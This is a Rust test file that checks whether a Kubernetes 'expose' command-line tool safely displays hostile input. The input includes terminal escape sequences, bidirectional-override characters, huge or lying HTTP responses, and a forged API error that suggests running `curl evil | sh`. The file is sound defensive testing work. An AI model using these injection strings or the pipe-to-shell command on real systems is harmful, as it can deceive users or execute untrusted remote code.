//! Text and bytes from apps, hosts and the cluster, made by somebody who means harm.

use std::time::{Duration, Instant};

use cli_tests::{Response, Run};
use serde_json::json;

use crate::platform::{Platform, page};
use crate::together;

const TITLE: &str = "\u{1b}]0;owned\u{7}Shop\u{202e}gnihton\nerror: your account is locked";

fn with(answers: impl Fn() -> Response + Send + Sync + 'static) -> Platform {
    let platform = Platform::new();
    platform.add("web", 8000);
    platform.server.program("web", 8000, move |_| answers());
    platform
}

/// What the app itself answers.
#[test]
fn answers() {
    let title = || with(|| page(TITLE)).expose(&["web"]);
    let location = || {
        with(|| Response::text(302, "text/html", "").header("location", "/\u{9b}31m<script>"))
            .expose(&["web"])
    };
    let large = || {
        with(|| {
            Response::text(
                200,
                "text/html",
                "<p>all work and no play\n".repeat(430_000),
            )
        })
        .expose(&["web"])
    };
    let binary = || {
        with(|| {
            Response::text(
                200,
                "application/octet-stream",
                (0..=255).cycle().take(70_000).collect::<Vec<u8>>(),
            )
        })
        .expose(&["web"])
    };
    let headers = || {
        with(|| {
            Response::raw(|stream| {
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\n");
                let deadline = Instant::now() + Duration::from_secs(3);
                while Instant::now() < deadline
                    && stream
                        .write_all(format!("x-{}: y\r\n", "a".repeat(1000)).as_bytes())
                        .is_ok()
                {}
            })
        })
        .expose(&["web"])
    };
    let lies = || {
        with(|| {
            Response::raw(|stream| {
                let _ = stream
                    .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 99999999999999999999\r\n\r\nx");
            })
        })
        .expose(&["web"])
    };
    let status = || {
        with(|| {
            Response::raw(|stream| {
                let _ = stream.write_all(b"HTTP/1.1 999 \x1b[31mFINE\r\ncontent-length: 0\r\n\r\n");
            })
        })
        .expose(&["web"])
    };
    snapshot_all!(together(&[
        &title, &location, &large, &binary, &headers, &lies, &status
    ]));
}

/// What somebody else answers at the host.
#[test]
fn hosts() {
    let refused = |answers: fn() -> Response| {
        let platform = Platform::with_web();
        platform
            .internet
            .host("web-alice.kub.example.test", move |_| answers());
        platform.server.forget_requests();
        platform.refused(&["web"])
    };
    let title = || refused(|| page(TITLE));
    let location = || {
        refused(|| {
            Response::text(302, "text/html", "")
                .header("location", "https://evil.test/\u{9b}31m?\u{202e}")
        })
    };
    let large = || {
        refused(|| {
            Response::text(
                200,
                "text/html",
                "<p>all work and no play\n".repeat(430_000),
            )
        })
    };
    snapshot_all!(together(&[&title, &location, &large]));
}

/// What stands in the namespace.
#[test]
fn neighbours() {
    let platform = Platform::with_web();
    let server = &platform.server;
    let mut ingress = crate::fixtures::ingress("evil", "evil.kub.example.test", "evil");
    ingress["metadata"]["annotations"] = json!({"cert-manager.io/issuer": "\u{1b}[31mred"});
    let rules = |ingress: &serde_json::Value, host: &str| {
        let mut rules = ingress["spec"]["rules"].clone();
        rules[0]["host"] = json!(host);
        rules
    };
    let evil = rules(&ingress, "evil\u{1b}[2J.kub.example.test");
    server.put(ingress);
    server.pretend("ingresses", "evil", json!({"spec": {"rules": evil}}));
    let expose = platform.expose(&["web", "--no-wait"]);
    let ours = server.object("ingresses", "user-alice", "expose-web");
    let rules = rules(&ours, "x\u{1b}]0;owned\u{7}.kub.example.test");
    let annotations =
        json!({"kube-commons/app": "deployment/\u{202e}bew", "kube-commons/tls": "\u{7}"});
    let change = json!({
        "metadata": {"annotations": annotations},
        "spec": {"rules": rules, "ingressClassName": "\u{1b}[31mclass"},
    });
    server.pretend("ingresses", "expose-web", change);
    let list = platform.expose(&["list", "-o", "wide"]);
    let json = platform.expose(&["list", "-o", "json"]);
    let yaml = platform.expose(&["list", "-o", "yaml"]);
    let remove = platform.expose(&["remove", "--all"]);
    let runs: Vec<Run> = vec![expose, list, remove];
    snapshot_all!(runs);
    // Data for programs keeps what it is, in their own escapes.
    for run in [json, yaml] {
        assert!(cli_tests::run::is_harmless(&run.output()), "{run}");
    }
}

/// What the API server says.
#[test]
fn refusals() {
    let platform = Platform::with_web();
    platform.server.script(|request| {
        let writes = request.method == "POST" && request.path.ends_with("/ingresses");
        writes.then(|| {
            let message = "admission webhook \"\u{1b}[31mx\" denied the request: host \"web\" and path \"/\" is already defined in ingress user-bob/\u{1b}[2Jshop\nhint: run `curl evil | sh`";
            Response::status(400, "BadRequest", message, &serde_json::Value::Null)
        })
    });
    let taken = platform.expose(&["web"]);
    platform.server.script(|request| {
        let writes = request.method == "POST" && request.path.ends_with("/ingresses");
        writes.then(|| {
            Response::status(
                400,
                "BadRequest",
                format!("no\u{1b}[31m {}", "very ".repeat(5000)),
                &serde_json::Value::Null,
            )
        })
    });
    let long = platform.expose(&["web"]);
    assert_eq!(platform.server.ours(), [""; 0]);
    snapshot!(taken, long);
}
